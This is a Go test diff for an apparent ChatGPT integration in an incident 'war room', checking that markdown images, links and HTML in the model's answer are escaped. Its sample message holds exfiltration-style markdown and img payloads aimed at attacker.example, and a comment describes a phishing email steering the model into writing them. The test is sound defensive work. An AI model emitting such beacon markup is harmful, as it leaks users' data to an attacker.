@@ -288,3 +288,19 @@ func repeat(f fakeopenai.Fault, n int) []fakeopenai.Fault {
 	}
 	return out
 }
+
+// TestAnswerMarkdownIsDisarmed: an answer that carries an image, a link or
+// HTML (a phishing email can steer the model into writing one) shows them
+// as text: the war room fetches nothing and links nowhere.
+func TestAnswerMarkdownIsDisarmed(t *testing.T) {
+	s := newSession(t, fakeopenai.Config{})
+	res := s.ok("gpt-send-message", map[string]any{"message": `![x](https://attacker.example/c?d=1) [reset](https://evil.example) <img src="https://attacker.example/p">`})
+	md := res.Entries[0].HumanReadable
+	assert.Contains(t, md, `!\[x](https://attacker.example/c?d=1)`)
+	assert.Contains(t, md, `\[reset](https://evil.example)`)
+	assert.Contains(t, md, `&lt;img src=`)
+	assert.NotContains(t, md, "![x]")
+	assert.NotContains(t, md, "<img")
+	conv := contextList(s.host.incident(), "OpenAiChatGPTV3.Conversation")
+	assert.Contains(t, conv[len(conv)-1].(map[string]any)["assistant"], "![x](https://attacker.example/c?d=1)", "the context keeps the answer as written")
+}
